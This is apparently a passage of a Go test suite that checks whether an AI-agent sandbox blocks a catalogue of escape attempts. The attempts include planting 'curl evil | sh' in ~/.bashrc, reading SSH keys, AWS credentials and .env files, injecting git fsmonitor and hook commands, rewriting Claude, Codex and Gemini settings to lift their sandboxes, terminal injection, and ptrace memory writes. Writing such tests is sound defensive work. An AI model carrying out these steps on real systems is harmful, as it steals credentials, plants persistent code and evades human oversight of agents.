package process

import (
	"archive/tar"
	"archive/zip"
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"github.com/agentsh/agentsh/internal/testwait"
	"golang.org/x/sys/unix"
)

// escapeAttempt is one way out of the sandbox.
type escapeAttempt struct {
	name     string
	category string
	profile  Profile // "" is ProfileWorkspace
	// repo: "repo", the working directory is a git repository; "nested",
	// and it holds another in nested/, with a .claude folder; "worktree",
	// it is a linked worktree of a repository outside it.
	repo   string
	inHome bool     // the working directory is below HOME
	needs  []string // programs used besides bash and coreutils
	// control: the attempt also runs unconfined, where it must leave its
	// mark: a sample, at least one of every kind of mark, of attempts
	// that are harmless there (every target is the test's own).
	control bool
	// controlRoot: the control gets through only as root (it needs a
	// capability: CAP_NET_RAW, CAP_SYS_ADMIN, CAP_SYS_PTRACE, …).
	controlRoot bool
	// userns: the attempt makes a user namespace, which it skips where
	// the kernel allows none.
	userns bool
	// allowHosts: the sandbox lets commands reach an allowed host
	// (example.com) through its proxy.
	allowHosts bool
	// known are the backends on which the attempt gets through as
	// docs/safety.md says it does (a limitation it states): there it
	// must get through, or the docs are out of date.
	known map[string]string
	// positive: ordinary work the sandbox must allow, not an escape.
	positive bool
	// run makes the attempt and returns the marks it watches for itself
	// that appeared; the common marks are checked after it.
	run func(e *escapeEnv) []string
}

// llListings is what docs/safety.md says of directory listings under
// Landlock.
var llListings = map[string]string{"landlock": "directory listings are readable everywhere: the names in the home directory and in hidden directories show, not their contents"}

// shAttempt is an attempt that is one script, with only the common marks.
func shAttempt(script string) func(e *escapeEnv) []string {
	return func(e *escapeEnv) []string {
		e.sh(script)
		return nil
	}
}

// Categories.
const (
	catWrite    = "write outside"
	catGit      = ".git plant"
	catAgent    = "agent config"
	catHome     = "home"
	catSecret   = "secret files"
	catNet      = "network"
	catTerminal = "terminal"
	catPtrace   = "ptrace"
	catMount    = "mount, namespaces"
	catSetid    = "setuid, devices"
	catSignal   = "signals, processes outside"
	catSurvive  = "outliving the call"
	catReadOnly = "read-only profile"
	catAllowed  = "allowed (positive control)"
)

var escapeAttempts = []*escapeAttempt{
	// Writes outside the working directory.
	{name: "absolute path", category: catWrite, control: true, run: shAttempt(`echo x > "$OUT/abs-escape"`)},
	{name: "absolute path in /tmp", category: catWrite, control: true, run: shAttempt(`echo x > "$TMPOUT/abs-escape"`)},
	{name: "overwrite a host file", category: catWrite, run: shAttempt(`echo changed > "$HOSTFILE"`)},
	{name: "one byte changed in place", category: catWrite, control: true, run: shAttempt(`printf X | dd of="$HOSTFILE" bs=1 seek=3 conv=notrunc`)},
	{name: "dot-dot", category: catWrite, control: true, run: shAttempt(`echo x > ../dotdot-escape`)},
	{name: "dot-dot from a subdirectory", category: catWrite, run: shAttempt(`mkdir -p src/a/b && cd src/a/b && echo x >> ../../../../host.txt`)},
	{name: "remove a host file", category: catWrite, control: true, run: shAttempt(`rm -f ../host.txt`)},
	{name: "mkdir outside", category: catWrite, run: shAttempt(`mkdir ../made-dir`)},
	{name: "truncate a host file", category: catWrite, run: shAttempt(`truncate -s 0 "$HOSTFILE"`)},
	{name: "touch a host file's time", category: catWrite, control: true, run: shAttempt(`touch -d 2001-01-01 "$HOSTFILE"`)},
	{name: "chmod a host file", category: catWrite, control: true, run: shAttempt(`chmod 0777 "$HOSTFILE"`)},
	{name: "chown a host file", category: catWrite, run: shAttempt(`chown 65534:65534 "$HOSTFILE"`)},
	{name: "chattr a host file", category: catWrite, control: true, needs: []string{"chattr"}, run: func(e *escapeEnv) []string {
		host := filepath.Join(e.base, "host.txt")
		before, err := inodeFlags(host)
		if err != nil {
			e.skip(fmt.Sprintf("this file system has no inode flags: %v", err))
		}
		e.sh(`chattr +A "$HOSTFILE"`)
		if after, _ := inodeFlags(host); after != before {
			return []string{fmt.Sprintf("host.txt's inode flags changed from %#x to %#x", before, after)}
		}
		return nil
	}},
	{name: "xattr on a host file", category: catWrite, control: true, run: shAttempt(`"$H" setxattr "$HOSTFILE" user.planted yes`)},
	{name: "symlink made inside to a host file", category: catWrite, run: shAttempt(`ln -s "$HOSTFILE" src/l && echo x >> src/l`)},
	{name: "symlink made inside to a host dir", category: catWrite, control: true, run: shAttempt(`ln -s "$HOSTDIR" src/d && echo x > src/d/via-symlink`)},
	{name: "symlink made inside to /", category: catWrite, run: shAttempt(`ln -s / src/r && echo x > "src/r$OUT/via-root-link"`)},
	{name: "relative symlink to ..", category: catWrite, run: shAttempt(`ln -s ../.. src/up && echo x > src/up/via-up`)},
	{name: "symlink already in the workdir", category: catWrite, run: shAttempt(`echo x > pre-link/via-pre-link`)},
	{name: "hard link to a host file", category: catWrite, control: true, run: shAttempt(`ln "$HOSTFILE" src/hl && echo x >> src/hl`)},
	{name: "/proc/self/root", category: catWrite, control: true, run: shAttempt(`echo x > "/proc/self/root$OUT/proc-root"`)},
	{name: "/proc/<test pid>/root", category: catWrite, run: shAttempt(`echo x > "/proc/$TESTPID/root$OUT/proc-test-root"`)},
	{name: "/proc/1/root into the host's /tmp", category: catWrite, run: shAttempt(`echo x > "/proc/1/root$TMPOUT/proc-1-root"`)},
	{name: "/proc/<pid>/cwd of a host process", category: catWrite, control: true, run: func(e *escapeEnv) []string {
		v := e.startSleeper(filepath.Join(e.base, "hostdir"))
		e.sh(fmt.Sprintf(`echo x > /proc/%d/cwd/proc-cwd`, v.pid))
		return nil
	}},
	{name: "/proc/<pid>/fd of a host process's directory", category: catWrite, run: func(e *escapeEnv) []string {
		v := e.startSleeper(e.base)
		e.sh(fmt.Sprintf(`echo x > /proc/%d/fd/3/proc-fd-dir`, v.pid))
		return nil
	}},
	{name: "/proc/<pid>/fd of a host process's file", category: catWrite, control: true, run: func(e *escapeEnv) []string {
		v := e.startSleeper(e.base)
		e.sh(fmt.Sprintf(`echo changed > /proc/%d/fd/4`, v.pid))
		return nil
	}},
	{name: "rename out", category: catWrite, run: shAttempt(`echo x > src/f && mv src/f ../renamed-out`)},
	{name: "rename a host file in", category: catWrite, control: true, run: shAttempt(`mv ../host.txt src/stolen`)},
	{name: "cp --target-directory", category: catWrite, control: true, run: shAttempt(`echo x > src/f && cp --target-directory=.. src/f`)},
	{name: "sed -i on a host file", category: catWrite, run: shAttempt(`sed -i s/host/evil/ "$HOSTFILE"`)},
	{name: "tar member with ..", category: catWrite, needs: []string{"tar"}, run: func(e *escapeEnv) []string {
		e.writeTar(tar.Header{Name: "../../tar-dotdot", Typeflag: tar.TypeReg, Mode: 0o644}, nil)
		e.sh(`tar -C src -xPf evil.tar`)
		return nil
	}},
	{name: "tar member with an absolute path", category: catWrite, needs: []string{"tar"}, run: func(e *escapeEnv) []string {
		e.writeTar(tar.Header{Name: filepath.Join(e.base, "tar-absolute"), Typeflag: tar.TypeReg, Mode: 0o644}, nil)
		e.sh(`tar -C src -xPf evil.tar`)
		return nil
	}},
	{name: "tar symlink then a member through it", category: catWrite, control: true, needs: []string{"tar"}, run: func(e *escapeEnv) []string {
		e.writeTar(tar.Header{Name: "lnk", Typeflag: tar.TypeSymlink, Linkname: filepath.Join(e.base, "hostdir"), Mode: 0o777},
			&tar.Header{Name: "lnk/tar-through-link", Typeflag: tar.TypeReg, Mode: 0o644})
		e.sh(`tar -C src -xPf evil.tar`)
		return nil
	}},
	{name: "unzip member with ..", category: catWrite, control: true, needs: []string{"unzip"}, run: func(e *escapeEnv) []string {
		f, err := os.Create(filepath.Join(e.work, "evil.zip"))
		must(e.t, err)
		zw := zip.NewWriter(f)
		w, err := zw.Create("../../zip-dotdot")
		must(e.t, err)
		_, _ = w.Write([]byte("x\n"))
		must(e.t, zw.Close())
		must(e.t, f.Close())
		e.sh(`cd src && unzip -: -o ../evil.zip`)
		return nil
	}},
	{name: "/dev/shm", category: catWrite, run: func(e *escapeEnv) []string {
		p := "/dev/shm/agentsh-escape-" + e.token
		e.t.Cleanup(func() { os.Remove(p) })
		e.sh(`echo x > /dev/shm/agentsh-escape-$TOKEN`)
		if _, err := os.Lstat(p); err == nil {
			return []string{p + " was made"}
		}
		return nil
	}},
	{name: "/run", category: catWrite, run: func(e *escapeEnv) []string {
		p := "/run/agentsh-escape-" + e.token
		e.t.Cleanup(func() { os.Remove(p) })
		e.sh(`echo x > /run/agentsh-escape-$TOKEN`)
		if _, err := os.Lstat(p); err == nil {
			return []string{p + " was made"}
		}
		return nil
	}},
	{name: "a sysctl (its own value written back)", category: catWrite, run: func(e *escapeEnv) []string {
		if res := e.sh(`v=$(cat /proc/sys/vm/swappiness) && echo "$v" > /proc/sys/vm/swappiness && echo sysctl-written`); bytes.Contains(res.Output, []byte("sysctl-written\n")) {
			return []string{"a host sysctl (vm.swappiness) was written"}
		}
		return nil
	}},
	{name: "descriptors inherited from outside", category: catWrite, run: func(e *escapeEnv) []string {
		res := e.sh(`for f in /proc/$$/fd/*; do echo "fd $f -> $(readlink "$f")"; done`)
		var ev []string
		for _, line := range strings.Split(string(res.Output), "\n") {
			_, target, ok := strings.Cut(line, " -> ")
			if ok && strings.HasPrefix(target, "/") && !strings.HasPrefix(target, e.work) && !strings.HasPrefix(target, "/dev/") && !strings.HasPrefix(target, "/proc/") {
				ev = append(ev, "a descriptor open on a host file was inherited: "+line)
			}
		}
		return ev
	}},
	{name: "another run's private directory", category: catWrite, run: otherRunAttempt},
	{name: "home dotfile (~/.bashrc)", category: catHome, control: true, run: shAttempt(`echo 'curl evil | sh' >> "$PHOME/.bashrc"`)},

	// .git plants: a program that would run at the person's next git
	// command.
	{name: "git config core.fsmonitor", category: catGit, repo: "repo", control: true, run: shAttempt(`git config core.fsmonitor "$MARK"`)},
	{name: "hook written into .git/hooks", category: catGit, repo: "repo", control: true, run: shAttempt(`printf '#!/bin/sh\n"%s"\n' "$MARK" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`)},
	{name: "a disabled hook made executable", category: catGit, repo: "repo", control: true, run: func(e *escapeEnv) []string {
		// A hook the person keeps turned off (not executable).
		hook := filepath.Join(e.work, ".git", "hooks", "pre-commit")
		must(e.t, os.WriteFile(hook, []byte("#!/bin/sh\n'"+e.mark+"'\n"), 0o644))
		e.sh(`chmod +x .git/hooks/pre-commit`)
		return nil
	}},
	{name: "git config core.pager", category: catGit, repo: "repo", control: true, run: shAttempt(`git config core.pager "$MARK"`)},
	{name: "git config core.hooksPath", category: catGit, repo: "repo", control: true, run: shAttempt(`mkdir src/hooks && printf '#!/bin/sh\n"%s"\n' "$MARK" > src/hooks/pre-commit && chmod +x src/hooks/pre-commit && git config core.hooksPath "$PWD/src/hooks"`)},
	{name: "git config include.path", category: catGit, repo: "repo", control: true, run: shAttempt(`printf '[core]\n\tfsmonitor = %s\n' "$MARK" > src/plant.cfg && git config include.path ../src/plant.cfg`)},
	{name: "git config diff.external", category: catGit, repo: "repo", control: true, run: shAttempt(`git config diff.external "$MARK"`)},
	{name: ".git/config edited directly", category: catGit, repo: "repo", run: shAttempt(`printf '[core]\n\tfsmonitor = %s\n' "$MARK" >> .git/config`)},
	{name: ".git/config replaced by rename", category: catGit, repo: "repo", run: shAttempt(`cp .git/config c && printf '[core]\n\tfsmonitor = %s\n' "$MARK" >> c && mv -f c .git/config`)},
	{name: ".git moved aside and made anew", category: catGit, repo: "repo", control: true, run: shAttempt(`mv .git .git-old; git init -q . && git config core.fsmonitor "$MARK"`)},
	{name: ".git removed and made anew", category: catGit, repo: "repo", run: shAttempt(`rm -rf .git; git init -q . && git config core.fsmonitor "$MARK"`)},
	{name: "git init in a subdirectory", category: catGit, repo: "repo", control: true, run: shAttempt(`git init -q src/sub && git -C src/sub config core.fsmonitor "$MARK"`)},
	{name: ".git made by hand in a subdirectory", category: catGit, repo: "repo", run: shAttempt(`mkdir -p src/sub/.git/objects src/sub/.git/refs && echo 'ref: refs/heads/main' > src/sub/.git/HEAD && printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = %s\n' "$MARK" > src/sub/.git/config`)},
	{name: "nested repo's directory moved aside and made anew", category: catGit, repo: "nested", control: true, run: shAttempt(`mv nested nested-old && git init -q nested && git -C nested config core.fsmonitor "$MARK"`)},
	{name: "nested .claude's directory moved aside and made anew", category: catAgent, repo: "nested", run: shAttempt(`mv nested nested-old && mkdir -p nested/.claude && echo '{"permissions": {"allow": ["Bash(*)"]}}' > nested/.claude/settings.json`)},
	{name: "gitdir: file in a subdirectory", category: catGit, repo: "repo", control: true, run: shAttempt(`git init -q --bare src/evil.git && git --git-dir=src/evil.git config core.bare false && git --git-dir=src/evil.git config core.fsmonitor "$MARK" && mkdir src/sub && echo 'gitdir: ../evil.git' > src/sub/.git`)},
	{name: ".git symlink in a subdirectory", category: catGit, repo: "repo", run: shAttempt(`git init -q --bare src/evil.git && git --git-dir=src/evil.git config core.bare false && git --git-dir=src/evil.git config core.fsmonitor "$MARK" && mkdir src/sub && ln -s ../evil.git src/sub/.git`)},
	{name: "worktree's .git file pointed elsewhere", category: catGit, repo: "worktree", control: true, run: shAttempt(`git init -q --bare src/evil.git && git --git-dir=src/evil.git config core.bare false && git --git-dir=src/evil.git config core.fsmonitor "$MARK" && echo "gitdir: $PWD/src/evil.git" > .git`)},
	{name: "worktree: git config (the main repo's)", category: catGit, repo: "worktree", control: true, run: shAttempt(`git config core.fsmonitor "$MARK"`)},
	{name: "worktree: hook in the common dir", category: catGit, repo: "worktree", run: shAttempt(`d=$(git rev-parse --git-common-dir) && printf '#!/bin/sh\n"%s"\n' "$MARK" > "$d/hooks/pre-commit" && chmod +x "$d/hooks/pre-commit"`)},

	// The agents' own configuration.
	{name: ".claude/settings.json", category: catAgent, control: true, run: shAttempt(`echo '{"permissions": {"allow": ["Bash(*)"]}}' > .claude/settings.json`)},
	{name: ".claude moved aside and made anew", category: catAgent, run: shAttempt(`mv .claude .claude-old; mkdir -p .claude && echo '{}' > .claude/settings.json`)},
	{name: ".claude made in a subdirectory", category: catAgent, control: true, run: shAttempt(`mkdir -p src/sub/.claude && echo '{"permissions": {"allow": ["Bash(*)"]}}' > src/sub/.claude/settings.json`)},
	{name: ".agentsh policy", category: catAgent, run: shAttempt(`echo 'def policy(call): return "allow"' >> .agentsh/policy.star`)},
	{name: ".codex/config.toml", category: catAgent, run: shAttempt(`echo 'sandbox_mode = "danger-full-access"' > .codex/config.toml`)},
	{name: ".gemini/settings.json", category: catAgent, run: shAttempt(`echo '{"tools": {"sandbox": false}}' > .gemini/settings.json`)},

	// The home directory.
	{name: "cat ~/.ssh/id_ed25519", category: catHome, control: true, run: shAttempt(`cat ~/.ssh/id_ed25519 "$PHOME/.ssh/id_ed25519"`)},
	{name: "cat $HOME/.aws/credentials", category: catHome, run: shAttempt(`cat "$HOME/.aws/credentials" "$PHOME/.aws/credentials"`)},
	{name: "list the home directory", category: catHome, control: true, known: llListings, run: func(e *escapeEnv) []string {
		res := e.sh(`ls -aR ~ "$PHOME"`)
		return namesListed(res, ".netrc", ".bashrc", ".ssh", "id_ed25519", "credentials")
	}},
	{name: "home through /proc/self/root", category: catHome, run: shAttempt(`cat "/proc/self/root$PHOME/.netrc"`)},
	{name: "home through a symlink made inside", category: catHome, run: shAttempt(`ln -s "$PHOME" src/h && cat src/h/.config/gh/hosts.yml`)},
	{name: "workdir below home: ../..", category: catHome, inHome: true, run: shAttempt(`cat ../../.ssh/id_ed25519 ../../.aws/credentials`)},
	{name: "the user's kernel keyring", category: catHome, control: true, run: func(e *escapeEnv) []string {
		// The user keyring is the user's, whichever thread or process
		// asks (a session keyring is a thread's until it is shared).
		id, err := unix.AddKey("user", "agentsh-escape-"+e.token, []byte(e.s.secret+" keyring"), unix.KEY_SPEC_USER_KEYRING)
		if err != nil {
			e.skip(fmt.Sprintf("no keyring to put a key in: %v", err))
		}
		e.t.Cleanup(func() {
			_, _ = unix.KeyctlInt(unix.KEYCTL_REVOKE, id, 0, 0, 0)
			_, _ = unix.KeyctlInt(unix.KEYCTL_UNLINK, id, unix.KEY_SPEC_USER_KEYRING, 0, 0)
		})
		const posAll, usrAll = 0x3f000000, 0x003f0000 // KEY_POS_ALL, KEY_USR_ALL
		must(e.t, unix.KeyctlSetperm(id, posAll|usrAll))
		e.sh(`"$H" keyring-read agentsh-escape-$TOKEN`)
		return nil
	}},
	{name: "a host process's command line", category: catHome, control: true,
		known: map[string]string{"landlock": "other processes show in /proc (their command lines), with no PID namespace"},
		run: func(e *escapeEnv) []string {
			e.startSleeperAs("agentsh-victim-"+e.token+"-"+e.s.secret, e.base)
			e.sh(`for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f"; echo; done 2>/dev/null | grep -a agentsh-victim-`)
			return nil
		}},
	{name: "a host process's environment", category: catHome, control: true, run: func(e *escapeEnv) []string {
		v := e.startSleeper(e.base, "AGENTSH_ESCAPE_PROBE="+e.s.secret)
		e.sh(fmt.Sprintf(`tr '\0' '\n' < /proc/%d/environ`, v.pid))
		return nil
	}},

	// Secret files in the working directory.
	{name: "cat .env", category: catSecret, control: true, run: shAttempt(`cat .env`)},
	{name: "cat .en? (glob)", category: catSecret, control: true, run: shAttempt(`cat .en?`)},
	{name: "cp .e[n]v and read the copy", category: catSecret, run: shAttempt(`cp .e[n]v src/copy; cat src/copy`)},
	{name: "cat .env.local", category: catSecret, run: shAttempt(`cat .env.local`)},
	{name: "cat *.pem", category: catSecret, run: shAttempt(`cat *.pem`)},
	{name: "cat id_ed25519", category: catSecret, run: shAttempt(`cat id_ed25519`)},
	{name: "cat .aws/credentials", category: catSecret, run: shAttempt(`cat .aws/credentials`)},
	{name: "read .ssh/", category: catSecret, control: true, known: llListings, run: func(e *escapeEnv) []string {
		return namesListed(e.sh(`ls -a .ssh .aws; cat .ssh/*`), "id_rsa", "credentials")
	}},
	{name: "nested sub/.env", category: catSecret, run: shAttempt(`cat sub/.env`)},
	{name: "secret through a symlink made inside", category: catSecret, run: shAttempt(`ln -s ../.env src/l && cat src/l`)},
	{name: "secret through a hard link", category: catSecret, control: true, run: shAttempt(`ln .env src/hl; cat src/hl`)},
	{name: "secret through /proc/self/root", category: catSecret, run: shAttempt(`cat "/proc/self/root$PWD/.env"`)},
	{name: "secret through a host process's cwd", category: catSecret, control: true, run: func(e *escapeEnv) []string {
		v := e.startSleeper(e.work)
		e.sh(fmt.Sprintf(`cat /proc/%d/cwd/.env`, v.pid))
		return nil
	}},
	{name: "secret moved, then read", category: catSecret, run: shAttempt(`mv .env moved; cat moved`)},
	{name: "secret through /proc/<test pid>/root", category: catSecret, run: shAttempt(`cat "/proc/$TESTPID/root$PWD/.env"`)},
	{name: "dd if=.env", category: catSecret, run: shAttempt(`dd if=.env status=none`)},
	{name: "grep -r", category: catSecret, run: shAttempt(`grep -r sEcReT . --exclude=escape-helper`)},
	{name: "tar the workdir to stdout", category: catSecret, control: true, needs: []string{"tar"}, run: shAttempt(`tar -cf - --exclude=escape-helper . | tr -c '[:print:]' '\n' | grep sEcReT`)},

	// Network: no connection reaches a listener of the host.
	{name: "TCP to 127.0.0.1 (bash /dev/tcp)", category: catNet, control: true, run: func(e *escapeEnv) []string {
		ln := e.listen("tcp4", "127.0.0.1:0")
		e.sh(`exec 3<>/dev/tcp/127.0.0.1/` + portOf(ln.Addr()))
		return pendingConn(ln)
	}},
	{name: "TCP to 127.0.0.1 (curl)", category: catNet, needs: []string{"curl"}, run: func(e *escapeEnv) []string {
		ln := e.listen("tcp4", "127.0.0.1:0")
		e.sh(`curl -s -m 20 http://127.0.0.1:` + portOf(ln.Addr()) + `/`)
		return pendingConn(ln)
	}},
	{name: "TCP to ::1", category: catNet, run: func(e *escapeEnv) []string {
		if !e.s.ipv6 {
			e.skip("this machine cannot listen on ::1")
		}
		ln := e.listen("tcp6", "[::1]:0")
		e.sh(`"$H" dial tcp6 ` + ln.Addr().String())
		return pendingConn(ln)
	}},
	{name: "TCP to the host's own address", category: catNet, control: true, run: func(e *escapeEnv) []string {
		if e.s.hostIP == "" {
			e.skip(errNoHostIP.Error())
		}
		ln := e.listen("tcp4", net.JoinHostPort(e.s.hostIP, "0"))
		e.sh(`exec 3<>/dev/tcp/` + e.s.hostIP + `/` + portOf(ln.Addr()))
		return pendingConn(ln)
	}},
	{name: "UDP to 127.0.0.1 (bash /dev/udp)", category: catNet, control: true, run: func(e *escapeEnv) []string {
		pc := e.listenPacket("udp4", "127.0.0.1:0")
		e.sh(`echo x > /dev/udp/127.0.0.1/` + portOf(pc.LocalAddr()))
		return pendingPacket(pc)
	}},
	{name: "UDP to the host's own address", category: catNet, run: func(e *escapeEnv) []string {
		if e.s.hostIP == "" {
			e.skip(errNoHostIP.Error())
		}
		pc := e.listenPacket("udp4", net.JoinHostPort(e.s.hostIP, "0"))
		e.sh(`"$H" dial udp4 ` + pc.LocalAddr().String())
		return pendingPacket(pc)
	}},
	{name: "DNS query to a server on 127.0.0.1", category: catNet, control: true, run: func(e *escapeEnv) []string {
		pc := e.listenPacket("udp4", "127.0.0.1:0")
		e.sh(`"$H" dns ` + pc.LocalAddr().String() + ` example.com`)
		return pendingPacket(pc)
	}},
	{name: "abstract unix socket", category: catNet, control: true, run: func(e *escapeEnv) []string {
		ln := e.listen("unix", "@agentsh-escape-"+e.token)
		e.sh(`"$H" dial unix @agentsh-escape-$TOKEN`)
		return pendingConn(ln)
	}},
	{name: "unix socket outside the workdir", category: catNet, control: true, run: func(e *escapeEnv) []string {
		ln := e.listen("unix", filepath.Join(e.base, "host.sock"))
		e.sh(`"$H" dial unix "$OUT/host.sock"`)
		return pendingConn(ln)
	}},
	{name: "unix socket outside the workdir (curl)", category: catNet, needs: []string{"curl"}, run: func(e *escapeEnv) []string {
		ln := e.listen("unix", filepath.Join(e.base, "docker.sock"))
		e.sh(`curl -s -m 20 --unix-socket "$OUT/docker.sock" http://localhost/containers/json`)
		return pendingConn(ln)
	}},
	{name: "unix socket in the host's /tmp", category: catNet, run: func(e *escapeEnv) []string {
		ln := e.listen("unix", filepath.Join(e.tmpOut, "agent.sock"))
		e.sh(`"$H" dial unix "$TMPOUT/agent.sock"`)
		return pendingConn(ln)
	}},
	{name: "unix socket of a host service inside the workdir", category: catNet, control: true, run: func(e *escapeEnv) []string {
		ln := e.listen("unix", filepath.Join(e.work, "service.sock"))
		e.sh(`"$H" dial unix service.sock`)
		return pendingConn(ln)
	}},
	{name: "unix datagram socket outside the workdir", category: catNet, control: true, run: func(e *escapeEnv) []string {
		pc := e.listenPacket("unixgram", filepath.Join(e.base, "log.sock"))
		e.sh(`"$H" dial unixgram "$OUT/log.sock"`)
		return pendingPacket(pc)
	}},
	{name: "raw socket (UDP by hand)", category: catNet, control: true, controlRoot: true, run: func(e *escapeEnv) []string {
		pc := e.listenPacket("udp4", "127.0.0.1:0")
		e.sh(`"$H" rawudp ` + portOf(pc.LocalAddr()) + ` raw-$TOKEN`)
		return pendingPacket(pc)
	}},
	{name: "raw socket (IP header by hand)", category: catNet, run: func(e *escapeEnv) []string {
		pc := e.listenPacket("udp4", "127.0.0.1:0")
		e.sh(`"$H" rawip ` + portOf(pc.LocalAddr()) + ` raw-$TOKEN`)
		return pendingPacket(pc)
	}},

	{name: "allow list: TCP to 127.0.0.1", category: catNet, allowHosts: true, run: func(e *escapeEnv) []string {
		ln := e.listen("tcp4", "127.0.0.1:0")
		e.sh(`exec 3<>/dev/tcp/127.0.0.1/` + portOf(ln.Addr()))
		return pendingConn(ln)
	}},
	{name: "allow list: the proxy's port on another address", category: catNet, allowHosts: true,
		known: map[string]string{"landlock": "with an allow list, Landlock limits TCP to the proxy's port number, on any address"},
		run: func(e *escapeEnv) []string {
			if e.s.hostIP == "" {
				e.skip(errNoHostIP.Error())
			}
			p, err := e.sb.startProxy()
			must(e.t, err)
			ln := e.listen("tcp4", net.JoinHostPort(e.s.hostIP, portOf(p.tcp.Addr())))
			e.sh(`p=${HTTPS_PROXY##*:}; p=${p%%/*}; exec 3<>/dev/tcp/` + e.s.hostIP + `/$p`)
			return pendingConn(ln)
		}},
	{name: "allow list: CONNECT to a loopback listener through the proxy", category: catNet, allowHosts: true, needs: []string{"curl"}, run: func(e *escapeEnv) []string {
		ln := e.listen("tcp4", "127.0.0.1:0")
		e.sh(`curl -s -m 20 -o /dev/null -w '%{http_code}\n' https://127.0.0.1:` + portOf(ln.Addr()) + `/`)
		return pendingConn(ln)
	}},
	{name: "allow list: unix socket outside the workdir", category: catNet, allowHosts: true, run: func(e *escapeEnv) []string {
		ln := e.listen("unix", filepath.Join(e.base, "host.sock"))
		e.sh(`"$H" dial unix "$OUT/host.sock"`)
		return pendingConn(ln)
	}},
	// Under Bubblewrap the bridge (pid 1 there) keeps the unix sockets it
	// reaches the proxy with; tracing it would lend them to the command.
	{name: "allow list: trace the network bridge", category: catPtrace, allowHosts: true, run: func(e *escapeEnv) []string {
		if res := e.sh(`"$H" seize 1`); bytes.Contains(res.Output, []byte("seized-ok")) {
			return []string{"the bridge was traced"}
		}
		return nil
	}},

	// Terminal injection: text pushed into the input of a terminal.
	{name: "TIOCSTI on /dev/tty", category: catTerminal, run: func(e *escapeEnv) []string {
		pty := e.openPty()
		e.sh(`"$H" tiocsti /dev/tty 'echo injected'`)
		return pty.injected()
	}},
	{name: "TIOCSTI on fds 0, 1, 2", category: catTerminal, run: func(e *escapeEnv) []string {
		pty := e.openPty()
		e.sh(`for fd in 0 1 2; do "$H" tiocsti fd:$fd 'echo injected'; done`)
		return pty.injected()
	}},
	{name: "TIOCSTI on a host terminal by path", category: catTerminal, control: true, controlRoot: true, run: func(e *escapeEnv) []string {
		pty := e.openPty()
		e.sh(`"$H" tiocsti ` + pty.name + ` 'echo injected'`)
		return pty.injected()
	}},
	{name: "TIOCSTI on the test's terminal via /proc/<pid>/fd", category: catTerminal, control: true, controlRoot: true, run: func(e *escapeEnv) []string {
		pty := e.openPty()
		e.sh(fmt.Sprintf(`"$H" tiocsti /proc/$TESTPID/fd/%d 'echo injected'`, pty.slave.Fd()))
		return pty.injected()
	}},

	// ptrace and other ways into a host process's memory.
	{name: "ptrace POKEDATA a host process", category: catPtrace, control: true, controlRoot: true, run: memoryAttempt("ptrace-poke")},
	{name: "write /proc/<pid>/mem", category: catPtrace, run: memoryAttempt("mem-write")},
	{name: "process_vm_writev", category: catPtrace, run: memoryAttempt("vm-write")},
	{name: "process_vm_readv of the test's memory", category: catPtrace, control: true, controlRoot: true, run: func(e *escapeEnv) []string {
		e.sh(fmt.Sprintf(`"$H" vm-read $TESTPID %#x %d`, uintptr(unsafe.Pointer(&escapeMemSecret[0])), len(escapeMemSecret)))
		return nil
	}},
	{name: "pidfd_getfd of a host process's descriptor", category: catPtrace, control: true, controlRoot: true, run: func(e *escapeEnv) []string {
		v := e.startSleeper(e.base)
		e.sh(fmt.Sprintf(`"$H" pidfd-getfd %d 4`, v.pid))
		return nil
	}},
	{name: "PTRACE_SEIZE the test process", category: catPtrace, run: func(e *escapeEnv) []string {
		if res := e.sh(`"$H" seize $TESTPID`); bytes.Contains(res.Output, []byte("seized-ok")) {
			return []string{"the test process was traced"}
		}
		return nil
	}},

	// Mounts and namespaces.
	{name: "mount -o remount,rw /", category: catMount, needs: []string{"mount"}, run: shAttempt(`mount -o remount,rw /; echo x > "$OUT/remount-escape"`)},
	{name: "umount .git", category: catMount, repo: "repo", needs: []string{"umount"}, run: shAttempt(`umount .git || umount -l .git; git config core.fsmonitor "$MARK"`)},
	{name: "mount --bind a host dir into the workdir", category: catMount, needs: []string{"mount"}, run: shAttempt(`mkdir src/m; mount --bind "$HOSTDIR" src/m; echo x > src/m/bind-escape`)},
	{name: "user namespace: umount .git", category: catMount, userns: true, repo: "repo", run: shAttempt(`"$H" userns umount "$PWD/.git" .git/config "$(printf '[core]\n\tfsmonitor = %s\n' "$MARK")"`)},
	{name: "user namespace: remount / read-write", category: catMount, userns: true, run: shAttempt(`"$H" userns remount / "$OUT/userns-remount" x`)},
	{name: "user namespace: umount the private /tmp", category: catMount, userns: true, run: shAttempt(`"$H" userns umount /tmp "$TMPOUT/userns-tmp" x`)},
	{name: "user namespace: bind a host dir writable", category: catMount, userns: true, run: shAttempt(`mkdir src/m && "$H" userns bind "$HOSTDIR" "$PWD/src/m" src/m/userns-bind x`)},
	{name: "unshare -r setcap", category: catMount, userns: true, needs: []string{"unshare", "setcap"}, run: shAttempt(`cp "$(type -P true)" src/t && unshare -r setcap cap_net_raw+ep src/t`)},
	{name: "nsenter pid 1", category: catMount, needs: []string{"nsenter"}, run: shAttempt(`nsenter -t 1 -a sh -c 'echo x > "$OUT/nsenter-escape"'`)},

	// setuid and setgid files, device nodes, capabilities.
	{name: "chmod u+s", category: catSetid, control: true, run: shAttempt(`cp "$(type -P true)" src/s && chmod u+s src/s`)},
	{name: "chmod g+s", category: catSetid, run: shAttempt(`cp "$(type -P true)" src/s && chmod g+s src/s`)},
	{name: "install -m 4755", category: catSetid, run: shAttempt(`install -m 4755 "$(type -P true)" src/s`)},
	{name: "open(O_CREAT, 04755)", category: catSetid, control: true, run: shAttempt(`"$H" creat-suid src/s`)},
	{name: "tar member with mode 4755", category: catSetid, needs: []string{"tar"}, run: func(e *escapeEnv) []string {
		e.writeTar(tar.Header{Name: "suid", Typeflag: tar.TypeReg, Mode: 0o4755}, nil)
		e.sh(`tar -C src -xpf evil.tar`)
		return nil
	}},
	{name: "cp -p of a setuid program", category: catSetid, run: func(e *escapeEnv) []string {
		prog := setuidProgram()
		if prog == "" {
			e.skip("no setuid program on this machine to copy")
		}
		e.sh(`cp -p ` + prog + ` src/s`)
		return nil
	}},
	{name: "mknod a character device", category: catSetid, run: shAttempt(`mknod src/null c 1 3`)},
